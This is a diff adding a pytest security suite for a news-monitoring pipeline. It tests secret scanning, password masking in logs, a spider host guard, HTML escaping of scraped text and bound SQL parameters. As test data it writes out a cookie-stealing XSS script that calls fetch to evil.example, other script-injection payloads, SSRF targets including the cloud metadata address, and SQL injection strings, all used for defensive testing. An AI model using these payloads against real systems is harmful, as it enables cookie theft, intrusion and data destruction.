@@ -1,0 +1,482 @@
+"""Security: no secrets in the repository or the logs, hosts the spiders may reach, escaped
+HTML everywhere scraped text is shown, SQL only through bound parameters."""
+
+from __future__ import annotations
+
+import ast
+import base64
+import logging
+import re
+import subprocess
+import urllib.parse
+from collections.abc import Iterator
+from datetime import timedelta
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from aiosmtpd.controller import Controller
+from aiosmtpd.smtp import AuthResult
+from lxml import etree
+from lxml import html as lxml_html
+from scrapy import Request
+from sqlalchemy import select
+
+from crawlers.middlewares import OffsiteRequest, PrivateHostRefused, SourceGuardMiddleware
+from pipeline.alerts import Alert, run_alerts
+from pipeline.alerts.feeds import write_feeds
+from pipeline.alerts.preview import preview
+from pipeline.db import display_url, session_scope
+from pipeline.models import Document, Run, utcnow
+from pipeline.settings import PROJECT_ROOT, get_settings, load_settings
+from tests.alerts_data import source, story, subscribers
+from tests.conftest import FIXTURES
+from tests.reliability.helpers import child_env, invoke, run_cli
+
+# ---------------------------------------------------------------- secrets in the repository
+
+# Words that stand for a password in documentation and tests.
+PLACEHOLDERS = {"pass", "password", "secret", "changeme", "change-me", "example", "xxx", "***"}
+URL_CREDENTIALS = re.compile(r"\b[a-z][a-z0-9+.-]*://[^/\s:@'\"]+:([^@\s/'\"]+)@")
+ASSIGNED = re.compile(
+    r"(?i)\b(password|passwd|pwd|secret|token|api_?key)\b\s*[=:]\s*['\"]([^'\"\s]{4,})['\"]"
+)
+ENV_STYLE = re.compile(
+    r"(?m)^\s*-?\s*[A-Z0-9_]*(PASSWORD|SECRET|TOKEN|API_KEY)[A-Z0-9_]*\s*[=:]\s*(\S+)"
+)
+HARD = {
+    "private key": re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----"),
+    "AWS access key": re.compile(r"\bAKIA[0-9A-Z]{16}\b"),
+    "Slack token": re.compile(r"\bxox[abpr]-[0-9A-Za-z-]{10,}"),
+    "GitHub token": re.compile(r"\bgh[pousr]_[0-9A-Za-z]{36}\b"),
+}
+
+
+def _placeholder(value: str) -> bool:
+    """A stand-in rather than a password: a placeholder word, a template, or a dummy."""
+    value = urllib.parse.unquote(value).strip("'\"")
+    return (
+        value.lower() in PLACEHOLDERS
+        or value.startswith(("${", "{", "<", "%(", "$"))
+        or value.endswith("}")
+        or len(value) <= 4
+    )
+
+
+def repository_files() -> Iterator[Path]:
+    """Files git tracks or would add (ignored ones such as var/ and .venv/ excluded)."""
+    listed = subprocess.run(
+        ["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z"],
+        cwd=PROJECT_ROOT,
+        capture_output=True,
+        check=True,
+    ).stdout.decode()
+    for name in listed.split("\0"):
+        path = PROJECT_ROOT / name
+        if name and path.is_file():
+            yield path
+
+
+def secret_findings(path: Path, text: str) -> list[str]:
+    """Password-like strings in one file."""
+    found = []
+    for label, pattern in HARD.items():
+        found += [f"{label}: {m.group(0)[:30]}" for m in pattern.finditer(text)]
+    for m in URL_CREDENTIALS.finditer(text):
+        if not _placeholder(m.group(1)):
+            found.append(f"credentials in a URL: {m.group(0)}")
+    for m in ASSIGNED.finditer(text):
+        if not _placeholder(m.group(2)):
+            found.append(f"assigned secret: {m.group(0)}")
+    if path.suffix in {".env", ".yml", ".yaml", ".cfg", ".ini", ".toml"} or ".env" in path.name:
+        for m in ENV_STYLE.finditer(text):
+            if not _placeholder(m.group(2)):
+                found.append(f"secret setting: {m.group(0).strip()}")
+    return found
+
+
+def test_no_secret_in_the_repository() -> None:
+    problems = []
+    for path in repository_files():
+        rel = path.relative_to(PROJECT_ROOT)
+        if path.name == ".env":
+            problems.append(f"{rel}: a .env file must not be committed (use .env.example)")
+            continue
+        try:
+            text = path.read_text(encoding="utf-8")
+        except (UnicodeDecodeError, OSError):
+            continue  # binary fixtures
+        problems += [f"{rel}: {f}" for f in secret_findings(path, text)]
+    assert problems == []
+
+
+def test_the_secret_scan_finds_what_it_looks_for(tmp_path: Path) -> None:
+    """The control: the scan flags real-looking secrets and lets placeholders through."""
+    real = "Zq" + "8vR2mK1x"  # assembled so this file itself does not trip the scan
+    leaks = {
+        "a.py": f'SMTP = "smtp://alerts:{real}@mail.example.org:587"',
+        "b.py": f'password = "{real}"',
+        "c.env": f"POSTGRES_PASSWORD={real}",
+        "d.pem": "-----BEGIN RSA " + "PRIVATE KEY-----",
+    }
+    for name, text in leaks.items():
+        assert secret_findings(tmp_path / name, text), name
+    fine = {
+        "a.py": "smtp://user:pass@host:587 and postgresql://u:${PGPASSWORD}@db/newsmon",
+        "c.env": "POSTGRES_PASSWORD=${POSTGRES_PASSWORD:-changeme}",
+    }
+    for name, text in fine.items():
+        assert secret_findings(tmp_path / name, text) == [], name
+
+
+# ---------------------------------------------------------------- secrets in logs
+
+SMTP_SECRET = "s3" + "cret"  # the password of the test: built here, not written in the repo
+
+
+@pytest.fixture
+def refusing_smtp(monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
+    """An SMTP server that offers AUTH and refuses every login."""
+
+    class Handler:
+        async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
+            return "250 OK"
+
+    def authenticator(*_args: Any) -> AuthResult:
+        return AuthResult(success=False, handled=False)
+
+    from tests.integration.test_alerts_smtp import free_port
+
+    port = free_port()
+    controller = Controller(
+        Handler(),
+        hostname="127.0.0.1",
+        port=port,
+        authenticator=authenticator,
+        auth_required=True,
+        auth_require_tls=False,
+    )
+    controller.start()
+    url = f"smtp://newsmon:{SMTP_SECRET}@127.0.0.1:{port}?starttls=0&timeout=10"
+    monkeypatch.setenv("NEWSMON_SMTP_URL", url)
+    monkeypatch.setenv("NEWSMON_LOG_LEVEL", "DEBUG")
+    get_settings.cache_clear()
+    try:
+        yield port
+    finally:
+        controller.stop()
+
+
+def _leaks(*texts: str) -> list[str]:
+    """Texts that hold the SMTP password, plainly or as an AUTH PLAIN/LOGIN payload."""
+    forms = {
+        SMTP_SECRET,
+        base64.b64encode(f"\0newsmon\0{SMTP_SECRET}".encode()).decode(),
+        base64.b64encode(SMTP_SECRET.encode()).decode(),
+    }
+    return [t[:200] for t in texts if any(f in t for f in forms)]
+
+
+def test_failed_smtp_login_never_shows_the_password(
+    db_url: str, refusing_smtp: int, caplog: pytest.LogCaptureFixture, tmp_path: Path
+) -> None:
+    subs_file = tmp_path / "subscribers.yaml"
+    subs_file.write_text(
+        "subscribers:\n  - id: desk\n    email: desk@example.org\n    mode: instant\n"
+        "    topics: [zangezur-corridor]\n    since: 2026-01-01\n",
+        encoding="utf-8",
+    )
+    with session_scope() as session:
+        story(session, n=1, published=utcnow() - timedelta(hours=1))
+    caplog.set_level(logging.DEBUG)
+    subs = subscribers({"id": "desk", "email": "desk@example.org", "mode": "instant"})
+    report = run_alerts(subscribers=subs)
+    assert report.emails_sent == 0 and report.errors  # the login was refused...
+    assert "535" in report.errors[0] or "uthentication" in report.errors[0]
+    child = run_cli("alerts", "send", env=child_env(NEWSMON_SUBSCRIBERS_FILE=str(subs_file)))
+    with session_scope() as session:
+        stored = [a.last_error or "" for a in session.scalars(select(Alert))]
+        stored += [r.error or "" for r in session.scalars(select(Run))]
+    assert stored and any(stored)
+    texts = [caplog.text, *report.errors, child.stdout, child.stderr, *stored]
+    assert _leaks(*texts) == []  # ...and the password appears nowhere
+    assert _leaks(repr(report.as_dict())) == []
+
+
+def test_database_password_is_masked_in_errors_and_output(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    url = f"postgresql://newsmon:{SMTP_SECRET}@127.0.0.1:9/newsmon"
+    assert SMTP_SECRET not in display_url(url) and "***" in display_url(url)
+    monkeypatch.setenv("NEWSMON_DATABASE_URL", url)
+    get_settings.cache_clear()
+    code, out, err = invoke(["ingest", str(FIXTURES / "demo")], capsys)
+    assert code == 2 and "***" in err
+    assert SMTP_SECRET not in out + err
+
+
+def _fstring_uses(tree: ast.AST, attrs: set[str]) -> list[int]:
+    """Lines where an f-string interpolates ``x.<attr>`` directly (not through a masker)."""
+    lines = []
+    for node in ast.walk(tree):
+        if isinstance(node, ast.JoinedStr):
+            for value in node.values:
+                expr = getattr(value, "value", None)
+                if isinstance(expr, ast.Attribute) and expr.attr in attrs:
+                    lines.append(node.lineno)
+    return lines
+
+
+def test_no_message_interpolates_a_url_with_credentials() -> None:
+    """``database_url`` and ``smtp_url`` may carry passwords: messages use display_url()."""
+    found = []
+    for path in sorted((PROJECT_ROOT / "pipeline").rglob("*.py")):
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for line in _fstring_uses(tree, {"database_url", "smtp_url"}):
+            found.append(f"{path.relative_to(PROJECT_ROOT)}:{line}")
+    assert found == []
+
+
+# ---------------------------------------------------------------- hosts the spiders may reach
+
+
+def _guard(domains: list[str]) -> SourceGuardMiddleware:
+    stats = SimpleNamespace(inc_value=lambda *a, **k: None)
+    crawler: Any = SimpleNamespace(spider=SimpleNamespace(allowed_domains=domains), stats=stats)
+    return SourceGuardMiddleware(crawler)
+
+
+def test_production_is_the_default_mode() -> None:
+    assert load_settings({}).mode == "production"
+
+
+PRIVATE = [
+    "http://127.0.0.1/",
+    "http://127.1/",  # short form of 127.0.0.1
+    "http://2130706433/",  # 127.0.0.1 as one decimal number
+    "http://10.0.0.5/",
+    "http://192.168.1.1/",
+    "http://172.16.0.1/",
+    "http://169.254.169.254/latest/meta-data/",  # cloud metadata service
+    "http://[::1]/",
+    "http://[::ffff:127.0.0.1]/",
+    "http://0.0.0.0/",
+    "http://localhost/",
+]
+
+
+@pytest.mark.parametrize("url", PRIVATE)
+def test_production_never_requests_private_or_loopback_hosts(
+    url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("NEWSMON_MODE", "production")
+    get_settings.cache_clear()
+    host = urllib.parse.urlsplit(url).hostname or ""
+    with pytest.raises(PrivateHostRefused):
+        _guard([host]).process_request(Request(url))
+
+
+def test_test_mode_allows_the_replica_explicitly(monkeypatch: pytest.MonkeyPatch) -> None:
+    for mode in ("test", "demo"):
+        monkeypatch.setenv("NEWSMON_MODE", mode)
+        get_settings.cache_clear()
+        _guard(["127.0.0.11"]).process_request(Request("http://127.0.0.11:8800/en/rss.php"))
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://mfa.am.evil.example/x",
+        "https://evilmfa.am/x",
+        "https://evil.example/https://mfa.am/",
+        "https://evil.example/?u=mfa.am",
+        "https://user@evil.example/mfa.am",
+        "https://evil.example:443@mfa.am.evil.example/",
+    ],
+)
+@pytest.mark.parametrize("mode", ["production", "test"])
+def test_no_request_outside_the_allowed_domains(
+    url: str, mode: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("NEWSMON_MODE", mode)
+    get_settings.cache_clear()
+    guard = _guard(["mfa.am"])
+    with pytest.raises(OffsiteRequest):
+        guard.process_request(Request(url))
+    guard_ok = _guard(["mfa.am"])
+    if mode == "test":
+        guard_ok.process_request(Request("https://www.mfa.am/en/press-releases/"))
+
+
+def test_production_crawl_of_loopback_sources_is_refused_before_any_request(
+    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    sources = tmp_path / "sources.yaml"
+    sources.write_text(
+        "sources:\n  - name: local\n    type: media\n    country: AM\n    languages: [en]\n"
+        "    homepage: http://127.0.0.1:9/\n    allowed_domains: [127.0.0.1]\n"
+        "    discovery:\n      - {method: feed, url: 'http://127.0.0.1:9/rss'}\n",
+        encoding="utf-8",
+    )
+    monkeypatch.setenv("NEWSMON_SOURCES_FILE", str(sources))
+    monkeypatch.setenv("NEWSMON_MODE", "production")
+    get_settings.cache_clear()
+    code, _out, err = invoke(["crawl", "--source", "local"], capsys)
+    assert code == 2 and "loopback/private" in err
+    assert not (tmp_path / "var" / "crawl").exists()  # no spider was started
+
+
+# ---------------------------------------------------------------- scraped text in HTML output
+
+EVIL_TITLE = 'Talks <script>alert("t")</script><img src=x onerror=alert(1)>'
+EVIL_TEXT = (
+    'The deputy minister said <script>fetch("//evil.example/"+document.cookie)</script> that '
+    "the Zangezur corridor <a href=javascript:alert(2)>opens</a> soon. "
+    "<iframe src=//evil.example></iframe> Consultations will continue."
+)
+
+
+def _assert_inert(fragment: str, where: str) -> None:
+    """No script, no event handler, no javascript: link, no frame in an HTML document."""
+    tree = lxml_html.fromstring(fragment)
+    assert not tree.xpath("//script | //iframe | //object | //embed"), where
+    for el in tree.iter():
+        if not isinstance(el.tag, str):
+            continue
+        for name, value in el.attrib.items():
+            assert not name.lower().startswith("on"), (where, el.tag, name)
+            if name.lower() in {"href", "src"}:
+                assert not value.strip().lower().startswith("javascript:"), (where, value)
+
+
+def test_alert_html_and_atom_feed_escape_scraped_text(db_url: str, tmp_path: Path) -> None:
+    with session_scope() as session:
+        evil_source = source(session, "evil-wire", type_="wire", label='<b onmouseover="x()">W</b>')
+        _cluster, doc = story(
+            session,
+            n=1,
+            title=EVIL_TITLE,
+            text=EVIL_TEXT,
+            source_name="evil-wire",
+            published=utcnow() - timedelta(hours=1),
+        )
+        doc.url = "javascript:alert(3)//"
+        assert evil_source.id == doc.source_id
+    subs = subscribers(
+        {"id": "desk", "email": "desk@example.org", "mode": "instant"},
+        {"id": "daily", "email": "daily@example.org", "mode": "digest"},
+    )
+    items = preview(subs, out_dir=tmp_path / "preview")
+    pages = [f for item in items for f in item.files if f.suffix == ".html"]
+    assert len(pages) == 2  # the instant alert and the digest
+    for page in pages:
+        content = page.read_text(encoding="utf-8")
+        _assert_inert(content, page.name)
+        assert "&lt;script&gt;" in content  # shown as text, not run
+    with session_scope() as session:
+        feeds = write_feeds(session, out_dir=tmp_path / "feeds")
+    (feed,) = [f for f in feeds if f.name == "zangezur-corridor.xml"]
+    root = etree.fromstring(feed.read_bytes())
+    ns = {"a": "http://www.w3.org/2005/Atom"}
+    (entry,) = root.findall("a:entry", ns)
+    assert entry.findtext("a:title", namespaces=ns) is not None
+    assert "<script>" in entry.findtext("a:title", namespaces=ns)  # text, XML-escaped
+    assert not root.xpath("//a:script | //*[local-name()='script']", namespaces=ns)
+    for el in entry.iter():
+        if el.get("type") == "html":
+            _assert_inert(f"<div>{el.text or ''}</div>", f"feed {etree.QName(el).localname}")
+        href = el.get("href")
+        if href is not None:
+            assert not href.lower().startswith("javascript:")
+
+
+# ---------------------------------------------------------------- SQL through bound parameters
+
+SQL_CALLS = {"text", "exec_driver_sql", "execute", "executemany", "executescript"}
+# Dynamic SQL that has been reviewed: (file, interpolated expression) -> why it is safe.
+REVIEWED = {
+    ("pipeline/db.py", "SQLITE_BUSY_TIMEOUT_MS"): "a module constant (an int)",
+    ("pipeline/dedup/assign.py", "terms"): "OR terms built from range(BANDS); values bound",
+    ("pipeline/migrations/versions/0001_initial.py", "trig"): "a literal tuple of names",
+    ("scripts/bench_scale.py", "dbname"): "a name the benchmark generates from a uuid",
+}
+
+
+def _dynamic_parts(node: ast.expr) -> list[str] | None:
+    """The interpolated expressions of an f-string / % / + / .format() SQL argument."""
+    if isinstance(node, ast.JoinedStr):
+        return [ast.unparse(v.value) for v in node.values if isinstance(v, ast.FormattedValue)]
+    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add):
+        return [ast.unparse(node)]
+    if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "format":
+        return [ast.unparse(node)]
+    return None
+
+
+def dynamic_sql(root: Path) -> list[tuple[str, int, str]]:
+    """(file, line, expression) of every SQL call built from interpolated strings."""
+    found = []
+    for folder in ("pipeline", "crawlers", "dags", "scripts"):
+        for path in sorted((root / folder).rglob("*.py")):
+            tree = ast.parse(path.read_text(encoding="utf-8"))
+            for node in ast.walk(tree):
+                if not (isinstance(node, ast.Call) and node.args):
+                    continue
+                func = node.func
+                name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", None)
+                if name not in SQL_CALLS:
+                    continue
+                for part in _dynamic_parts(node.args[0]) or []:
+                    found.append((str(path.relative_to(root)), node.lineno, part))
+    return found
+
+
+def test_sql_is_built_only_from_constants_and_bound_parameters() -> None:
+    unreviewed = [f for f in dynamic_sql(PROJECT_ROOT) if (f[0], f[2]) not in REVIEWED]
+    assert unreviewed == [], "interpolated SQL: bind the values as parameters"
+
+
+def test_the_sql_scan_finds_interpolation(tmp_path: Path) -> None:
+    """The control: an f-string with user input in text() is reported."""
+    (tmp_path / "pipeline").mkdir()
+    (tmp_path / "pipeline" / "bad.py").write_text(
+        "from sqlalchemy import text\n"
+        "def find(session, q):\n"
+        "    return session.execute(text(f\"SELECT * FROM documents WHERE title = '{q}'\"))\n",
+        encoding="utf-8",
+    )
+    for folder in ("crawlers", "dags", "scripts"):
+        (tmp_path / folder).mkdir()
+    assert dynamic_sql(tmp_path) == [("pipeline/bad.py", 3, "q")]
+
+
+QUERIES = [
+    "Zangezur' OR '1'='1",
+    '"; DROP TABLE documents; --',
+    "corridor) UNION SELECT password FROM users --",
+    "NEAR(corridor statement) AND NOT -foo* ^bar",
+    "corridor:* & !statement | (x",
+    "%_\\ corridor",
+]
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_search_with_sql_and_fts_metacharacters(
+    any_db_url: str, query: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from pipeline.ingest import ingest_paths
+
+    ingest_paths([FIXTURES / "demo"])
+    with session_scope() as session:
+        before = len(list(session.scalars(select(Document.id))))
+    code, out, err = invoke(["search", query, "--json"], capsys)
+    assert code in (0, 2), err  # results, or "no searchable words": never a crash
+    assert "Traceback" not in err and "syntax error" not in (out + err).lower()
+    if code == 2:
+        assert err.strip().startswith("error: ")
+    with session_scope() as session:
+        assert len(list(session.scalars(select(Document.id)))) == before
+    if "corridor" in query.lower() and "union" not in query.lower():
+        code, out, _ = invoke(["search", "corridor", "--json"], capsys)
+        assert code == 0 and out.strip()
